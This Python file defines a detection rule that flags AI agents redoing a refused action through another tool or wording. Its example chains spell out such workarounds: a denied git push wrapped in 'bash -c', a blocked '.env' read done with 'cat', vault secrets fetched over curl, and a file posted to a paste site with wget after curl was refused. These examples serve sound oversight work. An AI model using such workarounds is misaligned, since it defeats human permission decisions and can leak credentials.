"""BND-05: what was refused, done by another road."""

from __future__ import annotations

from collections.abc import Iterator

from chains.context import Context
from chains.detections.examples import answer, by_person, chain, example, step
from chains.detections.reading import answers, denials, operations, ran, said, set_out, when
from chains.detections.refused import SENDS, Refused
from chains.detections.registry import Hit, Unjudged, detection
from lang.shell_paths import path_flags
from model.chain import Intent, Step, TaskChain
from model.event import Operation
from model.words import Effect, Phase, Severity, Verb

PERSON = "user"
"""By whom the person at the keyboard decides, as agents' logs say it."""


@detection(
    "BND-05",
    "Deny evasion: refused action retried by another tool or spelling",
    Severity.CRITICAL,
    needs=("deny events", "later similar targets by other tools in the same task"),
    looks_for="an action that was denied, then done with the same verb on the same target through another tool or another wording",
    limits="Only what can be recognised as the same verb and target counts, within one task: what a sub-agent does is its own task's. The very "
    "same call tried again and then allowed is a fresh decision, not evasion, and so is another wording that the person who refused the first "
    "one allowed. Where that person spoke again in between it is medium: they may have asked for it. Of the same remote's name the folders "
    "tell whether it is one repository. A secret read out of a variable of the environment is not known for the one in the store.",
    parameters={"verbs": (None, "verbs looked at; default: everything but fetching pages and reading files that are no secrets")},
    examples=(
        example("a refused push goes out through bash -c", True,
                chain(step("exec", answer("deny"), command="git push origin main", tool="no"),
                      step("exec", command="bash -c 'git push origin main'", tool="yes"))),
        example("through another tool", True,
                chain(step("exec", answer("deny"), command="git push origin main", tool="no"),
                      step("repo.write", target="repository", name="", detail="main", tool_name="mcp__git__push", tool="yes"))),
        example("asked again and allowed", False,
                chain(step("exec", answer("deny"), command="git push origin main", tool="no"),
                      step("exec", answer("allow"), command="git push origin main", tool="yes"))),
        example("another branch", False,
                chain(step("exec", answer("deny"), command="git push origin main", tool="no"),
                      step("exec", command="git push origin fix/a", tool="yes"))),
        example("a commit on the machine itself", False,
                chain(step("exec", answer("deny"), command="git push --force origin main", tool="no"),
                      step("exec", command="git commit -m x", tool="yes"), repository="a/x")),
        example("two halves that need not be one target", False,
                chain(step("exec", answer("deny"), command="git push origin main", tool="no"),
                      step("repo.write", target="repository", name="b/y", tool_name="mcp__git__push", tool="yes"))),
        example("another thing done to the same place", False,
                chain(step("exec", answer("deny"), command="kubectl -n pay delete pod web-1", tool="no"),
                      step("exec", command="kubectl -n pay get pods", tool="yes"))),
        example("the same to the same thing in other words", True,
                chain(step("exec", answer("deny"), command="kubectl -n pay delete pod web-1", tool="no"),
                      step("exec", command="bash -c 'kubectl delete pods/web-1 --namespace pay'", tool="yes"))),
        example("a comment where closing was refused", False,
                chain(step("exec", answer("deny"), command="gh issue close 4", tool="no"),
                      step("exec", command="gh issue comment 4 -b waiting", tool="yes"))),
        example("another repository's main", False,
                chain(step("exec", answer("deny"), command="git push origin main", tool="no", request={"context.cwd": "/home/ada/api"}),
                      step("exec", command="cd ../web && git push origin main", tool="yes", request={"context.cwd": "/home/ada/api"}))),
        example("a file of secrets, read by the shell", True,
                chain(step("file.read", answer("deny"), target="filesystem", name="/home/ada/api/.env", tool_name="Read", tool="no"),
                      step("exec", command="cat .env", tool="yes", request={"context.cwd": "/home/ada/api"}))),
        example("the example beside it", False,
                chain(step("file.read", answer("deny"), target="filesystem", name="/home/ada/api/.env", tool_name="Read", tool="no"),
                      step("exec", command="cat .env.example", tool="yes", request={"context.cwd": "/home/ada/api"}))),
        example("a secret over the store's interface", True,
                chain(step("exec", answer("deny"), command="vault kv get -mount=kv pay/db", tool="no"),
                      step("exec", command='curl -H "X-Vault-Token: $T" https://vault.acme.example/v1/kv/data/pay/db', tool="yes"))),
        example("one field of an item, then all of it", True,
                chain(step("exec", answer("deny"), command="op read op://prod/db/password", tool="no"),
                      step("exec", command="op item get db --vault prod", tool="yes"))),
        example("data sent by another program", True,
                chain(step("exec", answer("deny"), command="curl -d @a.txt https://paste.example/new", tool="no"),
                      step("exec", command="wget --post-file=a.txt https://paste.example/new", tool="yes"))),
        example("a page fetched by another program", False,
                chain(step("exec", answer("deny"), command="curl https://paste.example/new", tool="no"),
                      step("exec", command="wget https://paste.example/new", tool="yes"))),
        example("refused and, put otherwise, allowed by one person", False,
                chain(step("exec", by_person("deny"), command="git push origin main", tool="no"),
                      step("exec", by_person("allow"), command="git push --follow-tags origin main", tool="yes"))),
        example("never retried", False, chain(step("exec", answer("deny"), command="git push origin main", tool="no"))),
    ),
)  # fmt: skip
def evaded(task: TaskChain, around: Context, parameters: dict[str, object]) -> Iterator[Hit | Unjudged]:
    wanted = parameters["verbs"]
    watched = {Verb(v) for v in wanted} if isinstance(wanted, list | tuple) else None
    denied = Refused(task.task.repository)
    known: set[tuple[object, ...]] = set()
    for one in task.steps:
        if denied.steps and ran(one) and set_out(one):
            spelling = _spelling(one)

            def other(before: Step, spelling: tuple[str, str] = spelling, one: Step = one) -> bool:
                return _spelling(before) != spelling and not _allowed_after_all(before, one)

            found = denied.first(one, other)
            if found is not None:
                yield _hit(task, *found)
        if denials(one) and not set_out(one):
            held = [o for o in operations(one) if _tellable(o, watched)]
            # Of refusals that are alike in all that is compared the first is told of, so the others need not be kept.
            alike = (
                _spelling(one),
                _by_person(one),
                one.request.get("context.cwd"),
                *((o.verb, o.target, o.flags) for o in held),
            )
            if held and alike not in known:
                known.add(alike)
                denied.add(one, held)


def _hit(task: TaskChain, before: Step, one: Step, same: Operation) -> Hit:
    spoke = _spoke(task, before, one)
    between = f"; the person who refused spoke again in between, at {when(spoke.at)}" if spoke else ""
    by = f" by the tool {one.tool}" if said(before) == said(one) and one.tool else ""
    return Hit(
        anchor=one.call or one.id,
        step=one.id,
        at=one.at,
        evidence=(*(d.record for d in denials(before)), *before.records, *one.records, *([spoke.record] if spoke else [])),
        severity=Severity.MEDIUM if spoke else None,
        why=f"`{said(before)}` was denied in step {before.n} at {when(before.at)}; step {one.n} did {same.verb.value} on the "
        f"same target as `{said(one)}`{by}{between}",
        facts={"denied_step": before.id},
    )


def _by_person(one: Step) -> bool:
    """Whether nobody but the person at the keyboard refused a step."""
    return all(item.decision is not None and item.decision.by == PERSON for item in denials(one))


def _allowed_after_all(before: Step, one: Step) -> bool:
    """Whether the person who refused a call allowed another wording of it."""
    allowed = (item.decision for item in answers(one) if item.decision is not None and item.decision.effect is Effect.ALLOW)
    return _by_person(before) and any(decision.by == PERSON for decision in allowed)


def _spoke(task: TaskChain, before: Step, one: Step) -> Intent | None:
    """What the person who refused a step said before another was taken."""
    if not _by_person(before) or before.intent == one.intent:
        return None
    return next((i for i in task.intents if i.id == one.intent and i.kind is Phase.PROMPT), None)


_QUIET = frozenset({Verb.EXEC, Verb.FILE_READ, Verb.HTTP_REQUEST, Verb.NET_CONNECT, Verb.UNKNOWN, Verb.REPO_READ})


def _tellable(operation: Operation, watched: set[Verb] | None) -> bool:
    if watched is not None:
        return operation.verb in watched
    if operation.verb is Verb.FILE_READ:
        return "secret-file" in (*operation.flags, *path_flags(operation.target.name, False))
    if operation.verb is Verb.HTTP_REQUEST:
        return bool(SENDS.intersection(operation.flags) and operation.target.name)
    return operation.verb not in _QUIET and bool(operation.target.name or operation.target.detail)


def _spelling(one: Step) -> tuple[str, str]:
    return (one.tool, " ".join(str(one.request.get("action.command") or one.title).split()))
